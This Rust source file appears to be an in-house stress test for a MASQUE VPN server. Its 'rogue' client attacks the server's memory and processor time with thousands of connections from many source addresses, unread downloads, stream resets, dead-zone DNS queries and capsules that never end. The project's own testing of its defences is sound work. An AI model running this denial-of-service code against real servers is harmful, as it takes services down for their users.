//! A client with valid credentials that tries everything at once to take its server's memory and processor
//! time: thousands of connections and tunnels, downloads that are never read, streams that are opened and
//! reset, names in zones that are dead, and capsules that never end.
//!
//! In: the server, the credentials, where to download from, the parts of the attack. Out: on stdout, each
//! second, a line with the [`Counts`] as JSON. Runs as a process of its own until it is killed.

use std::{
    collections::{BTreeMap, BTreeSet},
    io::Write,
    net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket},
    sync::Arc,
    time::{Duration, Instant},
};

use bytes::{Bytes, BytesMut};
use mpvpn_identity::{tls, trust::Trust};
use mpvpn_masque::{
    capsule::{Capsule, CapsuleReader, Family, RequestedAddress},
    connect,
    connect_ip::ConnectIpRequest,
    connect_udp, datagram,
    extensions::Extensions,
    h3::{self, Event as HttpEvent, H3, Settings, Side},
    headers::Headers,
    structured::Typed,
};
use mpvpn_packets::Packet;
use mpvpn_quic::{
    ClientSetup, Connection, ConnectionHandle, Endpoint, Event, FlowControlWindows, Handled, LocalAddress,
    Read, StreamId, TransportOptions,
};
use mpvpn_types::LinkId;
use serde_json::{Value, json};
use tokio::{io::AsyncWriteExt, net::TcpListener};

use crate::{
    dns::{DEAD_ZONE, query},
    files::allow_files,
    flood::source,
};

type Result<T> = std::result::Result<T, String>;

/// Connections that it tries to have, and without the part `connections`: five of each session, one an
/// attack.
const CONNECTIONS: u64 = 10_000;
const FEW_CONNECTIONS: u64 = SESSIONS * ATTACKS.len() as u64;
/// Sessions, and connections with a tunnel in each.
const SESSIONS: u64 = 64;
const TUNNELS_OF_SESSION: u64 = 128;
/// Addresses that it has, so that limits of an address do not protect the server.
const SOURCES: u32 = 64;
/// Downloads of a connection, streams that a round opens and resets, name look-ups of a round, and capsules
/// of a round.
const DOWNLOADS: usize = 64;
const RESETS: usize = 64;
const NAMES: usize = 16;
const CAPSULES: usize = 64;
/// How long it waits for a response to its request before it asks on another connection.
const RESPONSE_TIMEOUT: Duration = Duration::from_secs(5);
/// Limit of open files: above the number of downloads that a server may relay.
const MAX_OPEN_FILES: u64 = 65_536;
const TIMER_INTERVAL: Duration = Duration::from_millis(10);

/// Counts of what it has done, and of what became of it.
#[derive(Clone, Copy, Debug, Default)]
pub struct Counts {
    /// Connections that it has begun, that were established, and that the server ended.
    pub attempts: u64,
    /// See `attempts`.
    pub established: u64,
    /// See `attempts`.
    pub lost: u64,
    /// Tunnels that were granted, and refused.
    pub tunnels: u64,
    /// See `tunnels`.
    pub refused: u64,
    /// Downloads that it has asked for.
    pub downloads: u64,
    /// Bytes of downloads that it took without saying so.
    pub unconfirmed: u64,
    /// Streams that it has opened and reset.
    pub resets: u64,
    /// Names in a dead zone that it has asked for.
    pub names: u64,
    /// Bytes of capsules and header sections that never end.
    pub partial: u64,
}

impl Counts {
    fn json(&self) -> Value {
        json!({
            "attempts": self.attempts, "established": self.established, "lost": self.lost,
            "tunnels": self.tunnels, "refused": self.refused, "downloads": self.downloads,
            "unconfirmed": self.unconfirmed, "resets": self.resets, "names": self.names, "partial": self.partial,
        })
    }
}

/// The misuse of a connection beside its tunnel.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Attack {
    /// Downloads of which nothing is read.
    Unread,
    /// Downloads of which nothing is confirmed (`DataAck`), though it is taken.
    Unconfirmed,
    Reset,
    Names,
    Capsules,
}

const ATTACKS: [(&str, Attack); 5] = [
    ("unread", Attack::Unread),
    ("unconfirmed", Attack::Unconfirmed),
    ("reset", Attack::Reset),
    ("names", Attack::Names),
    ("capsules", Attack::Capsules),
];

/// One connection.
struct Member {
    number: u64,
    attack: Option<Attack>,
    http: H3,
    since: Instant,
    /// The request of the tunnel, and whether the response was seen.
    request: Option<StreamId>,
    answered: bool,
    capsules: CapsuleReader,
    address: Option<Ipv4Addr>,
    /// Streams that stay open: downloads, or requests that never end.
    kept: Vec<StreamId>,
    rounds: u32,
}

struct Rogue {
    server: SocketAddr,
    resolver: SocketAddr,
    credentials: String,
    download: String,
    setups: [ClientSetup; 2],
    endpoint: Endpoint,
    sockets: Vec<UdpSocket>,
    members: BTreeMap<usize, Member>,
    /// The secrets of its sessions.
    secrets: BTreeMap<u64, Vec<u8>>,
    /// Numbers of connections to be begun again.
    again: Vec<u64>,
    /// The misuse of each in turn, `None`: none.
    attacks: [Option<Attack>; ATTACKS.len()],
    turn: usize,
    counts: Counts,
    reasons: BTreeMap<String, u64>,
    buffer: Vec<u8>,
}

/// Attacks until it is killed: `attack SERVER TOKEN RESOLVER DOWNLOAD [PARTS]`, all but the token with ports;
/// or is the host with its downloads: `serve ADDRESS:PORT`. Parts, separated by commas, of all that are done
/// otherwise: `connections`, `unread`, `unconfirmed`, `reset`, `names`, `capsules`.
///
/// # Errors
///
/// If the arguments are wrong or a socket cannot be made.
pub fn run(args: &[String]) -> Result<()> {
    // The parent may be killed.
    rustix::process::set_parent_process_death_signal(Some(rustix::process::Signal::KILL))
        .map_err(|error| format!("the parent's end cannot be noticed: {error}"))?;
    allow_files(MAX_OPEN_FILES)?;
    match args.iter().map(String::as_str).collect::<Vec<_>>()[..] {
        ["attack", server, token, resolver, download] => attack(server, token, resolver, download, None),
        ["attack", server, token, resolver, download, parts] => {
            attack(server, token, resolver, download, Some(parts))
        }
        ["serve", at] => serve_downloads(at).map_err(|error| format!("{at}: {error}")),
        _ => Err("expected attack SERVER TOKEN RESOLVER DOWNLOAD [PARTS], or serve ADDRESS:PORT".to_owned()),
    }
}

/// Sends to each TCP connection as much as it takes.
fn serve_downloads(at: &str) -> std::io::Result<()> {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    runtime.block_on(async {
        let listener = TcpListener::bind(at).await?;
        // Bytes that wait here take memory of the kernel that the server's connections share.
        rustix::net::sockopt::set_socket_send_buffer_size(&listener, 16 << 10)?;
        loop {
            let (mut stream, _) = listener.accept().await?;
            tokio::spawn(async move { while stream.write_all(&[7; 64 << 10]).await.is_ok() {} });
        }
    })
}

fn attack(server: &str, token: &str, resolver: &str, download: &str, parts: Option<&str>) -> Result<()> {
    let has = |part| parts.is_none_or(|parts| parts.split(',').any(|given| given == part));
    let address = |text: &str| text.parse().map_err(|error| format!("{text}: {error}"));
    // One that never reads grants little, as it would have to hold it.
    let unread = FlowControlWindows { stream: 16 << 10, connection: 64 << 10 };
    let setups = [setup(unread)?, setup(FlowControlWindows::default())?];
    let mut rogue = Rogue {
        server: address(server)?,
        resolver: address(resolver)?,
        credentials: format!("Bearer {token}"),
        download: download.to_owned(),
        endpoint: Endpoint::client(&setups[0]),
        setups,
        sockets: (0..SOURCES).map(socket).collect::<Result<_>>()?,
        members: BTreeMap::new(),
        secrets: BTreeMap::new(),
        again: (0..if has("connections") { CONNECTIONS } else { FEW_CONNECTIONS }).rev().collect(),
        attacks: ATTACKS.map(|(part, attack)| has(part).then_some(attack)),
        turn: 0,
        counts: Counts::default(),
        reasons: BTreeMap::new(),
        buffer: Vec::new(),
    };
    rogue.attack()
}

fn setup(windows: FlowControlWindows) -> Result<ClientSetup> {
    let tls = tls::client_config(&Trust::Insecure, &[b"h3"]).map_err(|error| error.to_string())?;
    let options = TransportOptions { windows, ..TransportOptions::default() };
    ClientSetup::new(Arc::new(tls), &options, b"rogue").map_err(|error| error.to_string())
}

fn socket(number: u32) -> Result<UdpSocket> {
    let from = source(number, SOURCES);
    let socket = UdpSocket::bind((from, 0)).map_err(|error| format!("a socket of {from}: {error}"))?;
    socket.set_nonblocking(true).map_err(|error| error.to_string())?;
    // Without the privilege the system's default buffer remains.
    let _ = rustix::net::sockopt::set_socket_recv_buffer_size_force(&socket, 4 << 20);
    Ok(socket)
}

impl Rogue {
    fn attack(&mut self) -> Result<()> {
        let (began, mut printed, mut timers) = (Instant::now(), 0, Instant::now());
        loop {
            self.receive();
            if timers.elapsed() > TIMER_INTERVAL {
                timers = Instant::now();
                self.on_timers(timers);
            }
            self.connect()?;
            self.act();
            if began.elapsed().as_secs() > printed {
                printed += 1;
                let mut line = self.counts.json();
                line["open"] = self.members.len().into();
                line["reasons"] = json!(self.reasons);
                println!("{line}");
                std::io::stdout().flush().map_err(|error| error.to_string())?;
            }
        }
    }

    /// Takes what the sockets have.
    fn receive(&mut self) {
        let (mut touched, mut datagram) = (BTreeSet::new(), [0; 2048]);
        for (number, socket) in self.sockets.iter().enumerate() {
            for _ in 0..64 {
                let Ok((length, remote)) = socket.recv_from(&mut datagram) else { break };
                let local = Some(LocalAddress::link(LinkId(number as u16)));
                let data = BytesMut::from(&datagram[..length]);
                if let Handled::Connection(id) = self.endpoint.handle(Instant::now(), local, remote, 0, data)
                {
                    touched.insert(id.0);
                }
            }
        }
        touched.into_iter().for_each(|id| self.serve(id));
    }

    fn on_timers(&mut self, now: Instant) {
        let due: Vec<usize> = self.members.keys().copied().collect();
        for id in due {
            let Some(connection) = self.endpoint.get(ConnectionHandle(id)) else { continue };
            if connection.poll_timeout().is_some_and(|at| at <= now) {
                connection.handle_timeout(now);
                self.serve(id);
            }
            let is_late = |member: &Member| !member.answered && member.since.elapsed() > RESPONSE_TIMEOUT;
            if self.members.get(&id).is_some_and(is_late) {
                self.end(id, "no response");
            }
        }
    }

    /// Begins connections, those of sessions first.
    fn connect(&mut self) -> Result<()> {
        for _ in 0..16 {
            let Some(number) = self.again.pop() else { break };
            let attack = self.attacks[(number / SESSIONS) as usize % ATTACKS.len()];
            let local = LocalAddress::link(LinkId((number % u64::from(SOURCES)) as u16));
            let setup = &self.setups[usize::from(attack != Some(Attack::Unread))];
            let connected = self.endpoint.connect(Instant::now(), setup, local, self.server, "mpvpn");
            let id = connected.map_err(|error| format!("{}: {error}", self.server))?;
            self.counts.attempts += 1;
            let member = Member {
                number,
                attack,
                http: H3::new(Side::Client, Settings::default()),
                since: Instant::now(),
                request: None,
                answered: false,
                capsules: CapsuleReader::new(),
                address: None,
                kept: Vec::new(),
                rounds: 0,
            };
            self.members.insert(id.0, member);
            self.serve(id.0);
        }
        Ok(())
    }

    /// Handles the events of a connection, and sends what it has.
    fn serve(&mut self, id: usize) {
        let now = Instant::now();
        let (Some(connection), Some(member)) =
            (self.endpoint.get(ConnectionHandle(id)), self.members.get_mut(&id))
        else {
            return;
        };
        let mut lost = None;
        while let Some(event) = connection.poll_event(now) {
            match event {
                Event::Connected => {
                    self.counts.established += 1;
                    if let Ok(control) = connection.open_uni() {
                        connection.write(control, member.http.control_preface());
                    }
                    member.request = member.ask(connection, &self.credentials, &self.secrets);
                }
                Event::Lost(reason) => lost = Some(reason.to_string()),
                Event::StreamReadable(stream) => member.read(connection, stream, &mut self.counts),
                _ => {}
            }
        }
        connection.receive_datagrams(|_, _| ());
        while let Some(event) = member.http.poll() {
            match event {
                HttpEvent::Headers { stream, headers } if Some(stream) == member.request => {
                    member.answered = true;
                    let is_granted = headers.status().is_some_and(|status| (200..300).contains(&status));
                    self.counts.tunnels += u64::from(is_granted);
                    self.counts.refused += u64::from(!is_granted);
                    if !is_granted {
                        let why = headers
                            .text("proxy-status")
                            .unwrap_or_default()
                            .chars()
                            .filter(|c| !c.is_ascii_digit());
                        *self.reasons.entry(why.take(90).collect()).or_default() += 1;
                    }
                    let secret =
                        Extensions::of(&headers).and_then(|all| Some(all.get("session")?.bytes()?.to_vec()));
                    if member.number < SESSIONS
                        && let Some(secret) = secret
                    {
                        self.secrets.insert(member.number, secret);
                    }
                }
                HttpEvent::Data { stream, data } if Some(stream) == member.request => {
                    member.capsules.push(&data);
                    while let Ok(Some(capsule)) = member.capsules.next() {
                        let Capsule::AddressAssign(all) = capsule else { continue };
                        let v4 = |addr| if let IpAddr::V4(v4) = addr { Some(v4) } else { None };
                        member.address = all.iter().find_map(|entry| v4(entry.net.addr()));
                    }
                }
                _ => {}
            }
        }
        while let Some(transmit) = connection.poll_transmit(now, &mut self.buffer) {
            let link = transmit.local.and_then(LocalAddress::as_link).map_or(0, |link| link.0);
            let size = transmit.segment_size.unwrap_or(self.buffer.len()).max(1);
            for datagram in self.buffer.chunks(size) {
                let _ = self.sockets[usize::from(link)].send_to(datagram, transmit.remote);
            }
            self.buffer.clear();
        }
        let exists = self.endpoint.process_endpoint_events(ConnectionHandle(id));
        if let Some(reason) = lost {
            self.end(id, &reason);
        } else if !exists {
            self.end(id, "drained");
        }
    }

    /// A connection is lost: it is begun again.
    fn end(&mut self, id: usize, reason: &str) {
        if let Some(member) = self.members.remove(&id) {
            *self.reasons.entry(reason.chars().take(90).collect()).or_default() += 1;
            self.counts.lost += 1;
            if member.number < SESSIONS {
                self.secrets.remove(&member.number);
                self.again.push(member.number);
            } else {
                self.again.insert(0, member.number);
            }
        }
        if let Some(connection) = self.endpoint.get(ConnectionHandle(id)) {
            connection.close(Instant::now(), 0, "");
            self.endpoint.process_endpoint_events(ConnectionHandle(id));
        }
    }

    /// The next connections attack.
    fn act(&mut self) {
        // More than begin meanwhile.
        for _ in 0..24 {
            let next = self.members.range(self.turn..).next().or_else(|| self.members.iter().next());
            let Some((&id, _)) = next else { return };
            self.turn = id + 1;
            let (Some(member), Some(connection)) =
                (self.members.get_mut(&id), self.endpoint.get(ConnectionHandle(id)))
            else {
                continue;
            };
            // A request that was refused does not keep it from the others.
            if member.answered {
                member.act(connection, (&self.credentials, &self.download, self.resolver), &mut self.counts);
                self.serve(id);
            }
        }
    }
}

impl Member {
    /// Asks for a tunnel: a session, or another connection of one that is there.
    fn ask(
        &self,
        connection: &mut Connection,
        credentials: &str,
        secrets: &BTreeMap<u64, Vec<u8>>,
    ) -> Option<StreamId> {
        let in_session = self.number / SESSIONS;
        let secret = secrets.get(&(self.number % SESSIONS)).filter(|_| in_session < TUNNELS_OF_SESSION);
        let number = if secret.is_some() { in_session } else { 0 };
        let field = format!(
            "v=1, class=\"c{number}\", order=2;copies=4, fec=10;source=1;repair=32, connection={number}, \
             heartbeats=4, reinjection=6, data-ack=8, links"
        );
        let mut offered = Extensions::parse([field.as_bytes()].into_iter())?;
        if number > 0 {
            offered.set("session", secret?.clone().into());
        }
        let mut request = ConnectIpRequest::new("vpn.example", "/.well-known/masque/ip/*/*/");
        request.authorization = Some(credentials.to_owned());
        request.extensions = Some(offered.value());
        let stream = open(connection, &request.headers())?;
        if number == 0 {
            let any = Capsule::AddressRequest(vec![RequestedAddress::any(1, Family::V4)]);
            connection.write(stream, h3::encode_data(&any.to_bytes()));
        }
        Some(stream)
    }

    /// Takes what arrived on a stream, as far as this attack does.
    fn read(&mut self, connection: &mut Connection, stream: StreamId, counts: &mut Counts) {
        let is_kept = self.kept.contains(&stream);
        if is_kept && self.attack == Some(Attack::Unread) {
            return;
        }
        while let Read::Data(data) = connection.read(stream) {
            match is_kept {
                true => counts.unconfirmed += data.len() as u64,
                false => _ = self.http.handle_stream(stream, data, false),
            }
        }
    }

    fn act(
        &mut self,
        connection: &mut Connection,
        (credentials, download, resolver): (&str, &str, SocketAddr),
        counts: &mut Counts,
    ) {
        self.rounds += 1;
        let Some(attack) = self.attack else { return };
        match attack {
            Attack::Unread | Attack::Unconfirmed => {
                let Ok(target) = download.parse() else { return };
                let request = connect::request(&target, Some(credentials));
                while self.kept.len() < DOWNLOADS
                    && let Some(stream) = open(connection, &request)
                {
                    self.kept.push(stream);
                    counts.downloads += 1;
                }
            }
            Attack::Reset => {
                for _ in 0..RESETS {
                    let Ok(stream) = connection.open_bi() else { return };
                    connection.write(stream, Bytes::from_static(&[0x01, 0x44, 0x00]));
                    connection.reset(stream, h3::code::REQUEST_CANCELLED);
                    counts.resets += 1;
                }
            }
            Attack::Names => self.ask_for_names(connection, credentials, resolver, counts),
            Attack::Capsules => self.write_parts(connection, credentials, counts),
        }
    }

    /// Asks for names of a dead zone: by packets at the resolver of the server, and as targets of CONNECT.
    fn ask_for_names(
        &mut self,
        connection: &mut Connection,
        credentials: &str,
        resolver: SocketAddr,
        counts: &mut Counts,
    ) {
        let path = connection.paths().next();
        for number in 0..NAMES {
            let name = format!("{}-{}-{number}.{DEAD_ZONE}", self.number, self.rounds);
            if let (Some(address), Some(path), Some(stream)) = (self.address, path, self.request) {
                let from = SocketAddr::from((address, 1024 + (self.rounds % 60_000) as u16));
                let packet = Packet::between(from, resolver).udp(&query(self.rounds as u16, &name));
                let prefix = datagram::prefix(stream, 0);
                connection.queue_datagram(path, [prefix.as_ref(), &packet].concat().into());
                counts.names += 1;
            }
            if self.kept.len() < DOWNLOADS
                && let Ok(target) = format!("{name}:80").parse()
                && let Some(stream) = open(connection, &connect::request(&target, Some(credentials)))
            {
                self.kept.push(stream);
                counts.names += 1;
            }
        }
    }

    /// Continues capsules and header sections that never end.
    fn write_parts(&mut self, connection: &mut Connection, credentials: &str, counts: &mut Counts) {
        const PART: usize = 1000;
        if self.kept.len() < CAPSULES {
            let path = "/.well-known/masque/udp/192.0.2.7/53/";
            let flow = connect_udp::request("vpn.example", path, Some(credentials));
            // DATAGRAM of 60,000 bytes.
            if let Some(stream) = open(connection, &flow) {
                connection.write(stream, h3::encode_data(&[0x00, 0x80, 0x00, 0xea, 0x60]));
                self.kept.push(stream);
            }
            // HEADERS of 16,000 bytes.
            if let Ok(stream) = connection.open_bi() {
                connection.write(stream, Bytes::from_static(&[0x01, 0x7e, 0x80]));
                self.kept.push(stream);
            }
            // ADDRESS_REQUEST of 60,000 bytes.
            if let Some(stream) = self.request.filter(|_| self.kept.len() < 3) {
                connection.write(stream, h3::encode_data(&[0x02, 0x80, 0x00, 0xea, 0x60]));
            }
            return;
        }
        for (number, stream) in self.kept.iter().copied().chain(self.request).enumerate() {
            if connection.unsent(stream) > PART || self.rounds as usize > CAPSULES / 2 + 59 {
                continue;
            }
            let part = match number % 2 {
                1 if number < self.kept.len() && self.rounds as usize > CAPSULES / 2 + 15 => continue,
                1 if number < self.kept.len() => Bytes::from_static(&[0; PART]),
                _ => h3::encode_data(&[0; PART]),
            };
            connection.write(stream, part);
            counts.partial += PART as u64;
        }
    }
}

fn open(connection: &mut Connection, headers: &Headers) -> Option<StreamId> {
    let stream = connection.open_bi().ok()?;
    connection.write(stream, h3::encode_headers(headers));
    Some(stream)
}
